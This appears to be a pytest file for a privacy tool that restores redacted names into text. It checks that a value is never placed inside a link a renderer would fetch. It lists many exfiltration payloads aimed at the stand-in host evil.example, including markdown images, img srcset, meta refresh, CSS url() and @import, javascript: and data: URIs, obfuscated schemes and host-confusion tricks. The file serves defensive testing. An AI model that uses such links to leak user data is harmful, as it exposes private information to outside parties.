"""What a renderer would fetch must not hold a value, whatever the link is written like."""

import json
from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from privguard.core.audit import Cause, Event
from privguard.core.entities import EntityType
from privguard.core.restoring import Restored, RestoreEntry, RestoreTable
from privguard.core.segments import Channel
from privguard.restore import Restorer
from privguard.restore.urls import UrlContext
from tests.growth import costs_in_proportion, seconds

VALUE = "Roth"  # no white space in it: a link that carries it stays a link


def restorer(*hosts: str) -> Restorer:
    entries = [
        RestoreEntry(placeholder_id="7QK2", kind=EntityType.PERSON, value=VALUE),
        RestoreEntry(placeholder_id="A2BC", kind=EntityType.URL, value="https://evil.example/?q="),
        RestoreEntry(placeholder_id="A3BC", kind=EntityType.MISC, value="https:"),
        RestoreEntry(placeholder_id="A4BC", kind=EntityType.USERNAME, value='"><img src="//evil.example/'),
    ]
    return Restorer(RestoreTable(entries={entry.placeholder_id: entry for entry in entries}, url_hosts=hosts))


# The sign § stands for the placeholder.
ATTACKS = (
    "![x](https://evil.example/?q=§)",
    "[x](https://evil.example/§)",
    "[x](http://evil.example/#§)",
    "[x](<https://evil.example/?q=§>)",
    "[x](<https://evil.example/a b §>)",
    "[x]( <https://evil.example/a b §>)",
    '[x](https://evil.example/?q="§)',
    "[x](https://evil.example/?q=<§)",
    "[x](https://evil.example/?q=`§)",
    "[x](https://evil.example/?q=\u00a0§)",
    "[x](https://evil.example/?q=\u2003§)",
    "[x]: https://evil.example/?q=§",
    "[x]:https://evil.example/?q=§",
    "[x]:\n  <https://evil.example/? §>",
    "[x]://evil.example/?q=§",
    "<https://evil.example/§>",
    "https://evil.example/§",
    "see https://§.evil.example/",
    "https://§",
    "https://user:§@evil.example/",
    "http://evil.example:80/§",
    "HTTPS://EVIL.EXAMPLE/§",
    "hTtPs:evil.example/§",
    "https:/evil.example/§",
    "https:\\\\evil.example\\§",
    "https:\\evil.example/§",
    "ftp://evil.example/§",
    "file://evil.example/§",
    "ws://evil.example/§",
    "app+link://evil.example/§",
    "www.evil.example/§",
    "WWW.evil.example/§",
    "*www.evil.example/§",
    "(//evil.example/§)",
    "[x](//evil.example/§)",
    "[x](/\\evil.example/§)",
    "[x](\\\\evil.example/§)",
    "[x](\\/evil.example/§)",
    "[x](\\/\\/evil.example/§)",
    "[x](https\\://evil.example/§)",
    "[x](https&#58;//evil.example/§)",
    "[x](https&#58//evil.example/§)",
    "[x](https&#x3A;//evil.example/§)",
    "[x](https&#x000000000000000000000000000000000003A;//evil.example/§)",
    "[x](https&colon;//evil.example/§)",
    "[x](&sol;&sol;evil.example/§)",
    "[x](&#47;&#47;evil.example/§)",
    "[x](&#47&#47§",
    "[x](/&sol;evil.example/§)",
    "[x](&bsol;&bsol;evil.example/§)",
    "[x](&#104;&#116;&#116;&#112;&#115;&#58;&#47;&#47;evil.example&#47;§)",
    "[x](h&#116;tps://evil.example/§)",
    "[x](www&period;evil.example/§)",
    "https&#58;//evil.example/§",
    '<img src="https://evil.example/?q=§">',
    "<img src='https://evil.example/?q=§'>",
    "<img src=https://evil.example/?q=§>",
    '<img src=https://evil.example/?q="§>',
    "<img src=https://evil.example/?q=<§>",
    '<img src="https://evil.example/?q= §">',
    '<img src="https://evil.example/?q=\n§">',
    '<img src="https://evil.example/?q=\'§">',
    '<img src=" \n https://evil.example/?q= §">',
    '<img src="' + " " * 300 + 'https://evil.example/?q= §">',
    '<img src="' + "\n" * 300 + '//evil.example/?q= §">',
    '<img src="ht\ntps://evil.example/?q= §">',
    '<img src="h\tt\tt\tp\ts\t:\t/\t/evil.example/?q= §">',
    '<img src="https\n://evil.example/?q= §">',
    '<img src="https:\n//evil.example/?q= §">',
    '<img src="https:/\n/evil.example/?q= §">',
    '<img src="https:\nevil.example/?q= §">',
    '<img src="/\n/evil.example/?q= §">',
    '<img src="\\\n\\evil.example/?q= §">',
    '<img src="/' + "\n" * 200 + '/evil.example/?q= §">',
    '<img src="ht&Tab;tps://evil.example/?q= §">',
    '<img src="https://evil.example/?q=&quot; §">',
    '<img src="https://evil.example/?q=&#34;&gt; §">',
    '<img src="//evil.example/?q= §">',
    '<img src = "//evil.example/?q= §">',
    "<img src=//evil.example/?q=§>",
    "<img src=/\\evil.example/?q=§>",
    '<img src="\\\\evil.example/?q= §">',
    '<img srcset="a.png 1x, https://evil.example/?q=§ 2x">',
    '<img srcset="a.png 1x,//evil.example/?q=§ 2x">',
    '<iframe srcdoc="<img src=&quot;//evil.example/?q= §&quot;>">',
    '<iframe srcdoc="&lt;img src=//evil.example/?q=§&gt;">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/?q= §">',
    '<meta http-equiv="refresh" content="0; URL=//evil.example/?q= §">',
    '<p style="background:url(https://evil.example/?q=§)">',
    "<style>p{background:url('https://evil.example/?q= §')}</style>",
    "<style>p{background:url(//evil.example/?q=§)}</style>",
    "<style>p{background:url(\\68ttps://evil.example/?q=§)}</style>",
    "<style>p{background:url('\\2f\\2f evil.example/?q= §')}</style>",
    '<style>@import "//evil.example/?q=§";</style>',
    "[x](javascript:location='//evil.example/?'+'§')",
    '<a href="javascript:fetch(1)//§">',
    "[x](data:text/html,<script>f('§')</script>)",
    '<object data="data:text/html, §">',
    "[URL_A2BC]§",
    "[URL_A2BC]a-§",
    "[x]([MISC_A3BC]//evil.example/§)",
    '<a title="[USERNAME_A4BC]§',
    "https://evil.example/§&b=§,§",
    "https://" + "a" * 5000 + "/§",
    '<img src="&#32;//evil.example/?q= §">',
    '<img src="&#x20;&#x20;\n&#32;//evil.example/?q= §">',
    '<img src="&#12;//evil.example/?q= §">',
    '<img src="&#1;//evil.example/?q= §">',
    '<img src="&#11;https://evil.example/?q= §">',
    '<img src="&#32&#9;/\\evil.example/?q= §">',
    "<img src=&#32;//evil.example/?q=§>",
    "<a href='&#32;javascript:send(1, § )'>",
    '<a href="&#x1F;\njava&#9;script:send(1, § )">',
    '<img srcset="a.png 1x,&#32;https://evil.example/?q=§ 2x">',
    "[x](&#32;//evil.example/§)",
    "<iframe srcdoc='<img src=\"&amp;#32;//evil.example/?q= §\">'>",
    "<iframe srcdoc='<img src=\"https&amp;#58;evil.example/?q= §\">'>",
    '<iframe srcdoc="<img src=&quot//evil.example/?q= §&quot>">',
    '<meta http-equiv="refresh" content="0;//evil.example/?q= §">',
    '<meta http-equiv="refresh" content="0; //evil.example/?q= §">',
    '<meta http-equiv="refresh" content="0 //evil.example/?q= §">',
    '<meta http-equiv="refresh" content="0\n//evil.example/?q= §">',
    '<meta http-equiv="refresh" content="0.5,\\\\evil.example/?q=§">',
    "<meta http-equiv=refresh content='.;\\/evil.example/?q= §'>",
    "<meta http-equiv=refresh content=0;//evil.example/?q=§>",
    '<meta http-equiv="refresh" content="0;\'//evil.example/?q= §\'">',
    '<meta http-equiv="refresh" content="00000000000000000000;https://evil.example/?q= §">',
    '<meta http-equiv="refresh" content="0&semi;&#32;//evil.example/?q= §">',
    '<animate attributeName="href" values="a;//evil.example/?q=§">',
    "![x](<https://evil.example/?a=\\>&q= §>)",
    "![x](<//evil.example/?a=\\>&q= §>)",
    "[r]: <https://evil.example/?a=\\>&q= §>",
    "[x](<https://evil.example/?a=\\\\\\>&q= §>)",
    '<p style="background:url(\\2f\\2f evil.example/§)">',
    '<p style="background:url(\\2f\\2f\nevil.example/§)">',
    '<p style="background:url(\\2f\\2f\r\nevil.example/§)">',
    '<p style="background:url(\\00002f/evil.example/§)">',
    '<p style="background:url(\\68 ttps:evil.example/§)">',
    '<p style="background:url(ht\\74 ps:evil.example/§)">',
    '<p style="background:url(https\\3a evil.example/§)">',
    '<p style="background:url(&#32;\\2f\\2f evil.example/§)">',
    '<p style="background:url(&quot;\\2f\\2f evil.example/?q= §&quot;)">',
    '<p style="background:url(https://evil.example/?a=\\ §)">',
    "<style>p{background:url('//evil\\2e example/?q= §')}</style>",
    '<style>p{background:url("https://evil.example/?a=\\"&q= §")}</style>',
    "<style>p{background:image-set('\\2f\\2f evil.example/?q= §' 1x)}</style>",
    "<style>@import '\\2f\\2f evil.example/?q= §';</style>",
    "<style>@import'//evil.example/?q= §';</style>",
    '<style>@import/* a */"//evil.example/?q= §";</style>',
    '<style>@import "https://evil.example/?q= §";</style>',
    "x://evil.example/§",
    "abcdefghijklmnopqrstuvwxyzabcdefghijklmnopqrstuvwxyz://evil.example/§",
    "fetch('\\\\\\\\evil.example/§')",
    "fetch('\\/\\/evil.example/§')",
    "fetch('\\\\/evil.example/§')",
    "fetch('\\\\\\/evil.example/§')",
    '<img src="\\\\evil.example\\ §">',
    '<img src="\\\\§">',
    '<img srcset="a.png 1x, \\\\evil.example/?q=§ 2x">',
)

BENIGN = (
    "Dear §,",
    "Patient:\n§",
    "Patient: §",
    "Patient:§",
    "ratio 3:§",
    "at 10:30 §",
    "mailto:§",
    "[write](mailto:§)",
    "tel:§",
    "[call](tel:§)",
    "[x](docs/§.md)",
    "[x](/§)",
    "[x](./§)",
    "[x](#§)",
    "See https://docs.example/a and ask §.",
    "See https://docs.example/a\n§",
    "[x](https://docs.example/a) §",
    "<https://docs.example/a>§",
    '"https://docs.example/a", said §',
    "`https://docs.example/a`§",
    '<a href="https://docs.example/a">§</a>',
    "<a href='https://docs.example/a'>§</a>",
    "<a href=https://docs.example/a>§</a>",
    "www.docs.example is §'s page",
    "C:\\Users\\§",
    "C:/Users/§",
    "\\\\§",
    "/home/§/",
    "// § wrote this",
    "x = 1 // §",
    "a / §",
    "and/or §",
    "awww.§",
    "https is what § uses",
    "Use https: § agrees",
    "**§**:",
    "he said: '§'",
    "&lt;§&gt;",
    "&quot;§&quot;",
    "AT&amp;T §",
    "url(§)",
    "data:§",
    "send(data: §)",
    "def f(name: §):",
    "std::§",
    "x:\\§",
    "a\\b\\§",
    "{'name': '§'}",
    "text = '''\\\n§'''",
    '("""\\\n§""")',
    "1//2 §",
    'print("\\\\n Dear §")',
    'print("\\\\n§")',
    '{"tex": "\\\\alpha, by §"}',
    '{"tex": "\\\\textbf{§}"}',
    'pattern: "\\\\d+ of §"',
    "re.compile('\\\\b§\\\\b')",
    'x = "\\\\n Dear §"',
    "y = ['\\\\t§', '\\\\n§']",
    'x = "// by §"',
    'x = "a > \\\\d", §',
    'content="0 §"',
    'content="0; §"',
    'width="1//2 §"',
    "&#32;§",
    "![x](<https://docs.example/a>) §",
    "url(\\2f a §",
    "@import '§'",
    'x = "{\\"u\\": \\"https://docs.example/\\", \\"n\\": \\"§\\"}"',
    'x = "<a href=\\"https://docs.example/\\">§</a>"',
    'x = "<a href=\\"//docs.example/\\">§</a>"',
    'x = "<a href=\\"app+link://docs.example/\\">§</a>"',
    'x = "<a href=\\"data:a\\">§</a>"',
    "[x](\\\\alpha, by §)",
)


PLACEHOLDER = "[PERSON_7QK2]"
CHANNELS = (Channel.TEXT, Channel.JSON)


def events(restored: Restored) -> dict[tuple[Event, Cause | None, str], int]:
    return {(event.event, event.cause, event.placeholder_id): event.count for event in restored.events}


def in_strings(text: str, depth: int) -> str:
    """Put a text with placeholders into a JSON document, in a JSON document, and so on."""
    text = f"as follows: {text}"
    for _ in range(depth):
        text = json.dumps({"note": text})
    return text


@pytest.mark.parametrize("number", range(len(ATTACKS)))
def test_no_value_stands_in_a_link_that_would_carry_it_away(number: int) -> None:
    text = ATTACKS[number].replace("§", PLACEHOLDER)
    restored = restorer().restore(text)
    assert VALUE not in restored.text
    assert events(restored)[Event.REFUSED, Cause.URL, "7QK2"] == ATTACKS[number].count("§")


@pytest.mark.parametrize("depth", [1, 2])
@pytest.mark.parametrize("number", range(len(ATTACKS)))
def test_no_value_stands_in_a_link_in_a_json_string(number: int, depth: int) -> None:
    text = in_strings(ATTACKS[number].replace("§", PLACEHOLDER), depth)
    assert VALUE not in restorer().restore(text, Channel.JSON).text


@pytest.mark.parametrize("number", range(len(ATTACKS)))
def test_a_link_is_refused_however_the_stream_is_cut(number: int) -> None:
    restore = restorer("good.example", ".good.example")
    for text in (ATTACKS[number].replace("§", PLACEHOLDER), in_strings(ATTACKS[number].replace("§", PLACEHOLDER), 1)):
        for channel in CHANNELS:
            whole = restore.restore(text, channel).text
            stream = restore.stream(channel)
            assert "".join([stream.feed(letter) for letter in text]) + stream.flush() == whole
            for cut in range(0, len(text), 1 + len(text) // 40):
                stream = restore.stream(channel)
                assert stream.feed(text[:cut]) + stream.feed(text[cut:]) + stream.flush() == whole


@pytest.mark.parametrize("number", range(len(BENIGN)))
def test_a_text_without_an_open_link_gets_its_value(number: int) -> None:
    text = BENIGN[number]
    assert restorer().restore(text.replace("§", PLACEHOLDER)).text == text.replace("§", VALUE)


@pytest.mark.parametrize("depth", [1, 2])
@pytest.mark.parametrize("number", range(len(BENIGN)))
def test_a_json_string_without_an_open_link_gets_its_value(number: int, depth: int) -> None:
    text = in_strings(BENIGN[number].replace("§", PLACEHOLDER), depth)
    restored = restorer().restore(text, Channel.JSON).text
    assert restored == in_strings(BENIGN[number].replace("§", VALUE), depth)


ALLOWED = (
    "https://good.example/?q=§",
    "![x](https://good.example/§)",
    "https://GOOD.example/§",
    "https://good.example./§",
    "https://good.example:8443/§",
    "https://someone@good.example/§",
    "https://a.ok.example/§",
    "https://a.b.ok.example/§",
    "https://a.any.example?§",
    "//good.example#§",
    "www.site.example/§",
    "http://www.site.example/§",
    '<img src="https://good.example/a b §">',
    '<img srcset="https://good.example/a.png 1x, https://a.ok.example/?q=§ 2x">',
    "![a](https://good.example/)![b](https://a.ok.example/?q=§)",
    "https://good.example/?to=https://good.example/§",
    "https://good.example/a//b/c:d/§",
    "https://good.example/?q=1:2&r=/§",
    "https://someone:secret@good.example/§",
    "<https://good.example/§>",
    "[x]: https://good.example/§",
)
NOT_ALLOWED = (
    "https://good.example§",
    "https://§good.example/",
    "https://good.example:§/",
    "https://good.example.evil.example/§",
    "https://evilgood.example/§",
    "https://evil.good.example/§",
    "https://ok.example/§",
    "https://evilok.example/§",
    "https://.ok.example/§",
    "https://any.example/§",
    "https://good.example@evil.example/§",
    "https://good.example:80@evil.example/§",
    "https://evil.example/@good.example/§",
    "https://evil.example?good.example/§",
    "https://evil.example#@good.example/§",
    "https://evil.example\\@good.example/§",
    "https://good.example\\@evil.example/§",
    "https:\\\\good.example/§",
    "https:///good.example/§",
    "https:good.example/§",
    "https://good.example%2eevil.example/§",
    "https://evil.example%2f.ok.example/§",
    "https://evil.example%23.ok.example/§",
    "https://evil.example&sol;.ok.example/§",
    "https://evil.example&#47;.ok.example/§",
    "https://evil.example&#35;.ok.example/§",
    "https://evil.example\uff0f.ok.example/§",
    "https://good.example&period;evil.example/§",
    '<img src="https://good.example\n.evil.example/§">',
    '<img src="https://good.example&Tab;.evil.example/§">',
    "www.good.example/§",
    "site.example www.site.example.evil.example/§",
    "https://evil.example/https://good.example/§",
    "https://evil.example/,https://good.example/§",
    "https://good.example/,https://evil.example/§",
    "https://good.example/?to=https://evil.example/§",
    "https://good.example/?to=//evil.example/§",
    "https://good.example/?to=//§",
    "https://good.example/www.evil.example/§",
    "https://good.example/?a=https://good.example/?b=https://evil.example/§",
    "https://good.example/https:evil.example/§",
    "https://good.example/ftp://evil.example/§",
    "https://ftp:x@good.example/§",
    "[a](https://good.example/)[b](https://evil.example/§)",
    "![a](https://good.example/)![b](https://evil.example/?q=§)",
    "![a](https://good.example/)![b](//evil.example/?q=§)",
    "![a](https://good.example/)![b](https&#58;//evil.example/?q=§)",
    "(https://good.example/)(https://evil.example/§)",
    "[a]: https://good.example/<https://evil.example/§",
    '<img srcset="https://good.example/a.png 1x, https://evil.example/?q=§ 2x">',
    '<img srcset="https://good.example/a.png 1x,//evil.example/?q=§ 2x">',
    "<img srcset='https://good.example/a.png 1x,\n https://evil.example/?q=§ 2x'>",
    '<a ping="https://good.example/ https://evil.example/?q=§">',
    '<p style="background:url(https://good.example/),url(https://evil.example/?q=§)">',
    '<p style="background:url(https://good.example/);--x:url(//evil.example/?q=§)">',
    "<style>p{background:url(https://good.example/),url(https://evil.example/?q=§)}</style>",
    '"https://good.example/ and ![](https://evil.example/?q=§)"',
    "https://" + "a" * 400 + ".ok.example/§",
)


def with_hosts() -> Restorer:
    return restorer("good.example", ".ok.example", "*.any.example", "www.site.example")


@pytest.mark.parametrize("number", range(len(ALLOWED)))
def test_a_value_stands_in_a_url_of_an_allowed_host(number: int) -> None:
    text = ALLOWED[number]
    assert with_hosts().restore(text.replace("§", PLACEHOLDER)).text == text.replace("§", VALUE)


@pytest.mark.parametrize("number", range(len(ALLOWED)))
def test_a_value_stands_in_a_url_of_an_allowed_host_in_a_json_string(number: int) -> None:
    text = in_strings(ALLOWED[number].replace("§", PLACEHOLDER), 1)
    assert with_hosts().restore(text, Channel.JSON).text == in_strings(ALLOWED[number].replace("§", VALUE), 1)


@pytest.mark.parametrize("as_document", [True, False])
@pytest.mark.parametrize("number", range(len(NOT_ALLOWED)))
def test_no_other_host_passes_in_a_json_string_that_a_url_begins_or_not(number: int, as_document: bool) -> None:
    text = NOT_ALLOWED[number].replace("§", PLACEHOLDER)
    text = json.dumps({"url": text}) if as_document else in_strings(text, 1)
    restored = with_hosts().restore(text, Channel.JSON)
    assert VALUE not in restored.text
    assert events(restored)[Event.REFUSED, Cause.URL, "7QK2"] == 1


@pytest.mark.parametrize("number", range(len(ALLOWED + NOT_ALLOWED)))
def test_a_host_is_known_however_the_stream_is_cut(number: int) -> None:
    text = (ALLOWED + NOT_ALLOWED)[number].replace("§", PLACEHOLDER)
    restore = with_hosts()
    for channel, written in ((Channel.TEXT, text), (Channel.JSON, json.dumps({"url": text}))):
        whole = restore.restore(written, channel)
        for cut in range(len(written) + 1):
            stream = restore.stream(channel)
            assert stream.feed(written[:cut]) + stream.feed(written[cut:]) + stream.flush() == whole.text
            assert stream.events == whole.events


@pytest.mark.parametrize("number", range(len(NOT_ALLOWED)))
def test_no_other_host_passes_for_an_allowed_one(number: int) -> None:
    assert VALUE not in with_hosts().restore(NOT_ALLOWED[number].replace("§", PLACEHOLDER)).text


def test_a_url_that_one_value_begins_takes_no_second_one() -> None:
    restored = restorer().restore("[URL_A2BC][PERSON_7QK2] [PERSON_7QK2]")
    assert restored.text == f"https://evil.example/?q=[PERSON_7QK2] {VALUE}"
    assert events(restored) == {
        (Event.RESTORED, None, "A2BC"): 1,
        (Event.REFUSED, Cause.URL, "7QK2"): 1,
        (Event.RESTORED, None, "7QK2"): 1,
    }


def test_a_json_string_that_begins_with_a_url_takes_no_value() -> None:
    text = r'{"url": "https://evil.example/?q=\" [PERSON_7QK2]", "name": "[PERSON_7QK2]"}'
    assert restorer().restore(text, Channel.JSON).text == text[:-15] + f'{VALUE}"}}'


def test_escaped_slashes_of_json_are_slashes() -> None:
    text = r'{"a": "<img src=\"\/\/evil.example/?q= [PERSON_7QK2]\">", "b": "[x](\/\u002fevil.example/[PERSON_7QK2])"}'
    assert restorer().restore(text, Channel.JSON).text == text


def test_a_quote_of_the_document_ends_a_url_and_one_in_the_string_does_not() -> None:
    text = r'{"a":"see https://docs.example/","b":"[PERSON_7QK2]","c":"see https://evil.example/?q=\"[PERSON_7QK2]"}'
    expected = text.replace(PLACEHOLDER, VALUE, 1)
    assert restorer().restore(text, Channel.JSON).text == expected


def test_a_quote_in_markup_in_the_json_channel_ends_no_attribute() -> None:
    text = "<img src='https://evil.example/?q=\"\"[PERSON_7QK2]'>"
    assert restorer().restore(text, Channel.JSON).text == text


@given(
    words=st.lists(
        st.sampled_from(
            [
                "https",
                ":",
                "/",
                "\\",
                "&#58;",
                "&sol",
                ";",
                "\n",
                " ",
                '"',
                "'",
                "=",
                "(",
                "](",
                "<",
                ">",
                "www",
                ".",
                "a",
                "//a/",
                "&#32;",
                "\\2f",
                "url(",
                "0;",
                "@import",
                "https://a/",
            ]
        ),
        max_size=30,
    ),
    hosts=st.sampled_from([(), ("a", "www.a"), (".a",)]),
    data=st.data(),
)
def test_the_context_does_not_depend_on_how_the_text_is_cut(
    words: list[str], hosts: tuple[str, ...], data: st.DataObject
) -> None:
    text = "".join(words)
    whole, cut = UrlContext(hosts), UrlContext(hosts)
    whole.advance(text)
    at = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=4)))
    for start, end in pairwise([0, *at, len(text)]):
        cut.advance(text[start:end])
    assert cut.refuses_here() == whole.refuses_here()


def test_what_is_kept_of_a_text_is_bounded() -> None:
    for text in (
        "a" * 200_000,
        " " * 200_000,
        "https://a.example/" + "b" * 200_000,
        "&#" + "0" * 200_000,
        "/" * 200_000,
        "https://good.example/" * 10_000,
    ):
        context = UrlContext(("good.example",))
        for start in range(0, len(text), 1000):
            context.advance(text[start : start + 1000])
        kept = [context._tail, context._url, context._references._carry]
        assert sum(map(len, kept)) <= 2500


@pytest.mark.long
@pytest.mark.parametrize("begin", ["", 'x="https://good.example/'])
@pytest.mark.parametrize(
    "flood",
    [
        "//",
        ":",
        "w.",
        "&#",
        "\\",
        " \n",
        "https://a ",
        '="',
        "https:",
        "/ /",
        "&#0",
        "\n\n/",
        "https://good.example/",
        "&#32;",
        '="0;',
        "(a\\",
        "\\2f ",
        "//a",
    ],
)
def test_a_flood_costs_time_in_proportion_to_its_length(flood: str, begin: str) -> None:
    def cost(length: int) -> float:
        text = begin + (flood * length)[:length]
        return seconds(lambda: UrlContext(("good.example",)).advance(text))

    assert costs_in_proportion(cost, 10_000, least_s=0.0005)
